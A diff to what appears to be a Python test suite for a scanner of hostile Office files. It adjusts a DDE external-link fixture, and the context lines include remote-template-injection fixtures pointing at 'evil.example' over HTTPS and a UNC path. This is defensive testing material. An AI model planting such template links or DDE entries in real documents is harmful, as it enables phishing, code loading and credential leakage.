@@ -25,6 +25,7 @@ LINK = (
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
     'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
 )
+SPREADSHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
 OPEN_TEXT = {"mimetype": office.OPEN_DOCUMENT[0], "content.xml": "<x/>"}
 
 
@@ -75,7 +76,11 @@ def locked(body: bytes) -> bytes:
         packed({"[Content_Types].xml": TYPES.format("application/vnd.ms-word.document.macroEnabled.main+xml"), "word/document.xml": "<w/>"}),
         packed({"[Content_Types].xml": TYPES.format("application/xml"), "xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x/>"}),
         packed(
-            {"[Content_Types].xml": TYPES.format("application/xml"), "xl/workbook.xml": "<x/>", "xl/externalLinks/externalLink1.xml": "<ddeLink/>"}
+            {
+                "[Content_Types].xml": TYPES.format("application/xml"),
+                "xl/workbook.xml": "<x/>",
+                "xl/externalLinks/externalLink1.xml": f"<ddeLink {SPREADSHEET}/>",
+            }
         ),
         word(word___rels__settings_dot_xml_dot_rels=LINK.format("attachedTemplate", "https://evil.example/t.dotm")),
         word(word___rels__settings_dot_xml_dot_rels=LINK.format("attachedTemplate", r"\\evil.example\t.dotm")),
